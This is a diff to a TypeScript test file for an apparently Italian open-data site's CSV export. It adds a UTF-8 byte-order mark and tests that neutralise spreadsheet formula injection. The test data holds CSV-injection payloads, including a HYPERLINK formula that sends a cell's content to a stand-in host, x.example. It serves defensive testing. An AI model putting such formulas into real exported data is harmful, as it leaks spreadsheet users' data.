@@ -1,6 +1,7 @@
 import { describe, expect, test } from 'vitest';
 import { buildContentGraph } from '../../src/lib/content-graph.ts';
-import { csvCell, toCsv } from '../../src/lib/site/csv.ts';
+import { parse } from 'csv-parse/sync';
+import { csvCell, neutralizeFormula, toCsv, UTF8_BOM } from '../../src/lib/site/csv.ts';
 import { collectionJson, dataPackage, openDataFiles, periodCode, rowUnit, statsTableCsv } from '../../src/lib/site/open-data.ts';
 import { FundingProgrammeSchema } from '../../src/schemas/funding.ts';
 import { OrganizationSchema } from '../../src/schemas/organization.ts';
@@ -28,15 +29,60 @@ describe('CSV quoting', () => {
     expect(csvCell(value)).toBe(expected);
   });
 
-  test('lines end with CRLF, header first', () => {
-    expect(toCsv(['a', 'b'], [[1, 'x,y']])).toBe('a,b\r\n1,"x,y"\r\n');
+  test('UTF-8 byte-order mark (Excel reads accents right), lines end with CRLF, header first', () => {
+    expect(toCsv(['a', 'b'], [[1, 'x,y']])).toBe('\uFEFFa,b\r\n1,"x,y"\r\n');
+  });
+});
+
+describe('CSV injection (OWASP): text that a spreadsheet would run as a formula gets a leading quote', () => {
+  test.each([
+    ['=HYPERLINK("http://x.example/?"&A1;"clic")', '\'=HYPERLINK("http://x.example/?"&A1;"clic")'],
+    ['+39 02 123', "'+39 02 123"],
+    ['-2+3', "'-2+3"],
+    ['- un trattino di elenco', "'- un trattino di elenco"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\tcmd', "'\tcmd"],
+    ['\rcmd', "'\rcmd"],
+    // A plain number, even negative, is read as that number only: it stays a number.
+    ['-12.5', '-12.5'],
+    ['+3', '+3'],
+    ['525000.00', '525000.00'],
+    // Harmless text, and the characters anywhere but at the start.
+    ['Comuni = 1401', 'Comuni = 1401'],
+    ['e-mail: info@anci.example', 'e-mail: info@anci.example'],
+    ['', ''],
+  ])('%j → %j', (text, expected) => {
+    expect(neutralizeFormula(text)).toBe(expected);
+  });
+
+  test.each([
+    ['a number is never touched, negative or not', [-12.5, 0, -1400], '-12.5,0,-1400'],
+    ['a formula in a label is neutralised and quoted as CSV needs', ['=1+1', 'a,=b', '@x'], '\'=1+1,"a,=b",\'@x'],
+  ])('%s', (_name, row, expected) => {
+    expect(toCsv(['a', 'b', 'c'], [row]).split('\r\n')[1]).toBe(expected);
+  });
+
+  test('read back with csv-parse, the cells are the neutralised texts and the numbers', () => {
+    const text = toCsv(
+      ['etichetta', 'valore'],
+      [
+        ['=HYPERLINK("x")', -3],
+        ['perché – è', 4.33],
+      ],
+    );
+    expect(text.startsWith(UTF8_BOM)).toBe(true);
+    expect(parse(text, { bom: true })).toEqual([
+      ['etichetta', 'valore'],
+      ['\'=HYPERLINK("x")', '-3'],
+      ['perché – è', '4.33'],
+    ]);
   });
 });
 
 describe('one statistics table as CSV', () => {
   test('header is riga,gruppo,unita and the period labels; missing cells empty; dot decimals', () => {
     expect(statsTableCsv(eventi).split('\r\n')).toEqual([
-      'riga,gruppo,unita,2019,2020,2021,2022,2023,gen–giu 2024',
+      '\uFEFFriga,gruppo,unita,2019,2020,2021,2022,2023,gen–giu 2024',
       'eventi,,,164,66,85,101,103,50',
       'partecipanti,,,10627,6956,7653,8487,8520,4472',
       '',
@@ -44,6 +90,21 @@ describe('one statistics table as CSV', () => {
     expect(statsTableCsv(social)).toContain('post/stories pubblicati,Instagram,,,,288,450,580,388\r\n');
     expect(statsTableCsv(mixed)).toContain('soddisfazione,,%,91,93.5,\r\n');
     expect(statsTableCsv(mixed)).toContain('spesa,,euro,1200.5,1300,1250.25\r\n');
+  });
+
+  test('a row label written as a formula is published as text; negative figures stay numbers', () => {
+    const [first, second] = eventi.rows;
+    if (!first || !second) throw new Error('eventi ha due righe');
+    const hostile = {
+      ...eventi,
+      rows: [
+        { ...first, label: '=HYPERLINK("http://x.example";"clic")' },
+        { ...second, values: [-5, ...(second.values ?? []).slice(1)] },
+      ],
+    };
+    const [, formulaLine, negativeLine] = statsTableCsv(hostile).split('\r\n');
+    expect(formulaLine?.startsWith(`"'=HYPERLINK(""http://x.example"";""clic"")"`)).toBe(true);
+    expect(negativeLine?.split(',')[3]).toBe('-5');
   });
 
   test.each([
@@ -148,7 +209,12 @@ const file = (path: string) => {
   if (!found) throw new Error(`no ${path}`);
   return found;
 };
-const lines = (path: string) => file(path).content.split('\r\n').filter(Boolean);
+/** A CSV's lines, after the byte-order mark every published CSV starts with. */
+const lines = (path: string) => {
+  const { content } = file(path);
+  expect(content.startsWith(UTF8_BOM), `${path} inizia col BOM UTF-8`).toBe(true);
+  return content.slice(UTF8_BOM.length).split('\r\n').filter(Boolean);
+};
 
 describe('open-data files', () => {
   test('are the three CSVs, every collection as JSON, and the data package last', () => {
